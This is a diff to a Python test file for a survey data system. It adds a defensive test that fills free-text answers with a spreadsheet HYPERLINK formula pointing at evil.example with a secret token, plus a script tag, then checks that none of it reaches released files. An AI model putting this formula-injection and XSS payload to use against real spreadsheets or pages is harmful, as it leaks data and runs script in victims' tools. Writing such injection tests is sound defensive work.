@@ -8,6 +8,7 @@ import sqlite3
 import subprocess
 import sys
 import time
+import zipfile
 from contextlib import closing
 from pathlib import Path
 
@@ -22,7 +23,7 @@ from royst.study import folder
 from royst.web import server
 from royst.web.respond import offline
 
-from .conftest import WAVE, Cluster, Person, Running, empty, set_up
+from .conftest import ASKING, WAVE, Cluster, Person, Running, empty, set_up
 
 AGENT, ADDRESS = b"Findable Browser", b"127.0.0.1"
 
@@ -283,12 +284,48 @@ def test_a_share_alone_says_nothing_and_a_slip_in_it_is_found() -> None:
             sealed.joined(one[:place] + ("0" if one[place] != "0" else "1") + one[place + 1 :], other, public)
 
 
+SECRET = "Hemmeligordet"
+FORMULA = f'=HYPERLINK("http://evil.example/{SECRET}") <script>alert("{SECRET}")</script>'
+
+
+def ask_for_words(root: Path) -> None:
+    """One more question, of free text, at the end of the last wave's form."""
+    import openpyxl
+
+    path = root / "waves" / WAVE / "questionnaire.xlsx"
+    book = openpyxl.load_workbook(path)
+    sheet = book["survey"]
+    columns = {cell.value: cell.column for cell in sheet[1]}
+    row = sheet.max_row + 1
+    for column, said in {"type": "text", "name": "own_words", **{name: "Vil du si noe mer?" for name in columns if str(name).startswith("label")}}.items():
+        sheet.cell(row, columns[column], said)
+    book.save(path)
+
+
+def words_of(folder: Path) -> dict[str, bytes]:
+    """All that stands in a folder's files: what is packed is unpacked, PDFs as their text."""
+    found: dict[str, bytes] = {}
+    for path in sorted(folder.rglob("*")):
+        if path.suffix in (".xlsx", ".docx", ".zip", ".qdpx"):
+            with zipfile.ZipFile(path) as packed:
+                found.update({f"{path}/{name}": packed.read(name) for name in packed.namelist()})
+        elif path.suffix == ".parquet":
+            found[str(path)] = str(pl.read_parquet(path).to_dict(as_series=False)).encode()
+        elif path.suffix == ".pdf" and shutil.which("pdftotext"):
+            found[str(path)] = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True).stdout
+        elif path.is_file():
+            found[str(path)] = path.read_bytes()
+    return found
+
+
 def test_a_wave_answered_on_the_web_goes_through_a_release(written: Path, tmp_path: Path) -> None:
-    """Simulated people in 20 units answer by pages and by devices that were without the net; frozen, and released."""
+    """Simulated people in 20 units answer by pages and by devices that were without the net; frozen, and released. What they wrote in their own words, markup and formulas
+    among it, is kept as they wrote it and stands nowhere in what is released: not beside a place, nor at all."""
     import hashlib
     import http.client
 
-    running = set_up(written, tmp_path)
+    running = set_up(written, tmp_path, asking="free_text = true\n" + ASKING)
+    ask_for_words(running.root)
     found = serve.prepare(running.root, WAVE)
     links = {unit: found.codes.issue(unit, many=True)[0] for unit in found.units}
     running.start()
@@ -300,7 +337,7 @@ def test_a_wave_answered_on_the_web_goes_through_a_release(written: Path, tmp_pa
         for number in range(8 + place % 9):
             who = hashlib.sha256(f"{unit} {number}".encode()).digest()
             answers = {
-                item.name: str(18 + who[0] % 70)
+                item.name: (FORMULA if item.kind == "text" else str(18 + who[0] % 70))
                 if item.scale is None
                 else item.scale.names[who[1 + at % 30] % len(item.scale.names)]
                 for at, item in enumerate(items)
@@ -330,3 +367,17 @@ def test_a_wave_answered_on_the_web_goes_through_a_release(written: Path, tmp_pa
     name = next(name for name, part in folder.read(running.root).file.releases.items() if part.wave == WAVE)
     release.release(running.root, name, lambda text: None)
     assert (running.root / "releases" / name / "public" / "release.json").exists()
+    frame = pl.read_parquet(running.root / "waves" / WAVE / "answers.parquet")
+    assert set(frame["own_words"].drop_nulls()) == {FORMULA} and frame["own_words"].drop_nulls().len() > 30
+    released = words_of(running.root / "releases" / name)
+    assert len(released) > 20 and any("fornøyd".encode() in content for content in released.values())
+    assert not [path for path, content in released.items() if SECRET.encode() in content or b"evil.example" in content]
+
+
+def test_each_test_that_the_threat_model_names_is_there() -> None:
+    here = Path(__file__).parent
+    there = {path.stem for path in here.rglob("test_*.py")} | {name for path in here.parent.rglob("test_*.py") for name in re.findall(r"def (test_\w+)", path.read_text(encoding="utf-8"))}
+    named = re.findall(r"`(test_\w+)(…?)`", (here.parents[2] / "docs" / "threat-model.md").read_text(encoding="utf-8"))
+    assert len(named) > 15
+    missing = [name for name, cut in named if not (any(one.startswith(name) for one in there) if cut else name in there)]
+    assert not missing
